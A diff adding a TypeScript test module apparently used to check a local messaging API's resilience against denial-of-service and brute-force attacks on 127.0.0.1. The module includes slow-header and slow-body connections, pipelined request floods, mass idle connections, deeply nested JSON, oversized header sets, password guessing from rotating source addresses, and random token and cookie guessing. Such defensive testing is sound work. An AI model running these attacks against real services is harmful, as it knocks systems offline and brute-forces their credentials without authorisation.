@@ -1,0 +1,211 @@
+import { randomBytes } from 'node:crypto'
+import { connect, type Socket } from 'node:net'
+import { setTimeout as sleep } from 'node:timers/promises'
+
+/** The service that is attacked. */
+export interface Target {
+  port: number
+  /** Of the metrics, where they have a port of their own. */
+  metricsPort?: number
+}
+
+/** Begins, and goes on until the process is killed. Resolves once the attack is under way. */
+export type Attack = (target: Target) => Promise<void>
+
+/** Before it connects, or asks, again: the harm is to come from each request, not from their number. */
+const PAUSE_MS = 100
+const DRIP_MS = 1_000
+const JSON_TYPE = 'Content-Type: application/json\r\n'
+const SIGN_IN = `POST /admin/v1/session HTTP/1.1\r\nHost: x\r\n${JSON_TYPE}`
+const MIB = 1_048_576
+
+/** Every address that takes a body, with a token that nobody has where one is asked for. */
+const BODY_TARGETS = [
+  'POST /admin/v1/session',
+  'POST /v1/messages/text',
+  'PUT /v1/webhooks/inst_000000000000',
+  'POST /admin/v1/instances',
+  'PUT /admin/v1/password',
+  'POST /nope',
+]
+
+/** One connection after another: as soon as one is closed, the next is opened. Nothing that is answered is read. */
+function keepOpen({ port }: { port: number }, begin: (socket: Socket) => void, localAddress?: string): void {
+  const socket = connect({ port, host: '127.0.0.1', ...(localAddress !== undefined && { localAddress }) })
+  socket.on('error', () => undefined)
+  socket.on('connect', () => begin(socket.pause()))
+  // A paused socket does not see the end of the other side: it is noticed by writing.
+  socket.on('close', () => setTimeout(keepOpen, PAUSE_MS, { port }, begin, localAddress))
+}
+
+function times(count: number, act: (index: number) => void): void {
+  for (let index = 0; index < count; index += 1) act(index)
+}
+
+/** Requests one behind the other, none of whose answers is read. */
+function pipelined(requests: readonly string[], bytes: number): Buffer {
+  const block = requests.map(line => `${line} HTTP/1.1\r\nHost:x\r\n\r\n`).join('')
+  return Buffer.from(block.repeat(Math.ceil(bytes / block.length)))
+}
+
+function writeForEver(socket: Socket, bytes: Buffer): void {
+  const write = () => {
+    while (!socket.destroyed && socket.write(bytes)) if (socket.writableLength > 0) return
+  }
+  socket.on('drain', () => setTimeout(write, PAUSE_MS))
+  socket.write(bytes)
+}
+
+function drip(socket: Socket, byte: string): void {
+  const timer = setInterval(() => socket.write(byte), DRIP_MS)
+  socket.once('close', () => clearInterval(timer))
+}
+
+/** Asks again and again on one connection, and reads what is answered. */
+function askForEver(target: Target, request: () => string, localAddress?: string): void {
+  keepOpen(
+    target,
+    socket => {
+      // An answer may come in pieces.
+      let isAnswered = false
+      socket.on('data', () => {
+        if (isAnswered) return
+        isAnswered = true
+        setTimeout(() => {
+          isAnswered = false
+          socket.write(request())
+        }, PAUSE_MS)
+      })
+      socket.resume()
+      socket.write(request())
+    },
+    localAddress,
+  )
+}
+
+function withBody(head: string, body: string): string {
+  return `${head}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`
+}
+
+export const ATTACKS = {
+  /** One connection, one read of the server full of requests. */
+  'pipelined-pages': async target => {
+    keepOpen(target, socket => {
+      socket.write(pipelined(['GET /docs/'], 65_536))
+      drip(socket, 'GET /docs/ HTTP/1.1\r\nHost:x\r\n\r\n')
+    })
+  },
+  'pipelined-documents': async target => {
+    const bytes = pipelined(['GET /openapi.json'], 1_700 * 39)
+    times(4, () => keepOpen(target, socket => writeForEver(socket, bytes)))
+  },
+  'pipelined-everything': async target => {
+    const lines = [
+      'HEAD /openapi.json',
+      'OPTIONS /v1/messages/text',
+      'GET /nope',
+      'GET /docs/',
+      'GET /docs/js/scalar.js',
+      'GET /metrics',
+      'GET /assets/none.js',
+      'GET /v1/instance',
+      'DELETE /admin/v1/instances',
+      'GET /readyz',
+    ]
+    times(20, () => keepOpen(target, socket => writeForEver(socket, pipelined(lines, 62_000))))
+  },
+  /** The largest file that is served, asked for by many who do not read it. */
+  'unread-documents': async target => {
+    const bytes = pipelined(['GET /docs/js/scalar.js', 'GET /openapi.json', 'GET /docs/'], 1)
+    times(500, () => keepOpen(target, socket => drip(socket, bytes.toString())))
+  },
+  'slow-sign-ins': async target => {
+    times(2_200, () =>
+      keepOpen(target, socket => {
+        socket.write(`${SIGN_IN}Content-Length: 3000\r\n\r\n{`)
+        drip(socket, ' ')
+      }),
+    )
+  },
+  'slow-bodies': async target => {
+    times(2_400, index =>
+      keepOpen(target, socket => {
+        const token = `pmb_${randomBytes(32).toString('base64url')}`
+        const line = BODY_TARGETS[index % BODY_TARGETS.length]
+        socket.write(`${line} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n${JSON_TYPE}`)
+        socket.write('Content-Length: 16000\r\n\r\n{')
+        drip(socket, ' ')
+      }),
+    )
+  },
+  'held-bodies': async target => {
+    times(1_000, () =>
+      keepOpen(target, socket => {
+        socket.write(`${SIGN_IN}Content-Length: ${MIB}\r\n\r\n`)
+        socket.write(Buffer.alloc(MIB - 1, 0x20))
+      }),
+    )
+  },
+  'nested-bodies': async target => {
+    const deep = (MIB >> 1) - 100
+    const body = `{"key":${'['.repeat(deep)}${']'.repeat(deep)}}`
+    times(4, () => askForEver(target, () => withBody(SIGN_IN, body)))
+  },
+  'slow-headers': async target => {
+    times(2_200, () =>
+      keepOpen(target, socket => {
+        socket.write(`GET /v1/instance HTTP/1.1\r\nHost: x\r\nX-Slow: ${'x'.repeat(15_000)}`)
+        drip(socket, 'x')
+      }),
+    )
+  },
+  'idle-connections': async target => {
+    times(3_000, () => keepOpen(target, () => undefined))
+  },
+  'many-headers': async target => {
+    const fields = Array.from({ length: 1_900 }, (_, n) => `a${n}:\r\n`).join('')
+    times(20, () => askForEver(target, () => `GET /v1/instance HTTP/1.1\r\nHost: x\r\n${fields}\r\n`))
+  },
+  /** Wrong passwords from many addresses, ten of each, all at once and then as often as they may. */
+  'guessed-passwords': async target => {
+    times(240, index =>
+      askForEver(target, () => withBody(SIGN_IN, `{"key":"guess ${index}"}`), `127.0.1.${1 + (index % 24)}`),
+    )
+  },
+  'guessed-keys': async target => {
+    const authorization = () => `Authorization: Bearer pmb_${randomBytes(32).toString('base64url')}\r\n`
+    const text = '{"to":"5511987654321","text":"x"}'
+    times(20, () =>
+      askForEver(target, () =>
+        withBody(`POST /v1/messages/text HTTP/1.1\r\nHost: x\r\n${authorization()}${JSON_TYPE}`, text),
+      ),
+    )
+    times(20, index =>
+      askForEver(
+        target,
+        () => `GET /admin/v1/instances HTTP/1.1\r\nHost: x\r\n${authorization()}\r\n`,
+        `127.0.2.${1 + index}`,
+      ),
+    )
+    times(20, () =>
+      askForEver(
+        target,
+        () =>
+          `GET /admin/v1/instances HTTP/1.1\r\nHost: x\r\nCookie: pombal_session=${randomBytes(33).toString('base64url').slice(0, 43)}\r\n\r\n`,
+      ),
+    )
+  },
+  'idle-metrics': async ({ metricsPort = 0 }) => {
+    times(200, () => keepOpen({ port: metricsPort }, () => undefined))
+  },
+} as const satisfies Record<string, Attack>
+
+export type AttackName = keyof typeof ATTACKS
+
+/** Connections are made in the order asked for; after this time they are there, or the service refuses them. */
+const UNDER_WAY_MS = 1_500
+
+export async function begin(name: AttackName, target: Target): Promise<void> {
+  await ATTACKS[name](target)
+  await sleep(UNDER_WAY_MS)
+}
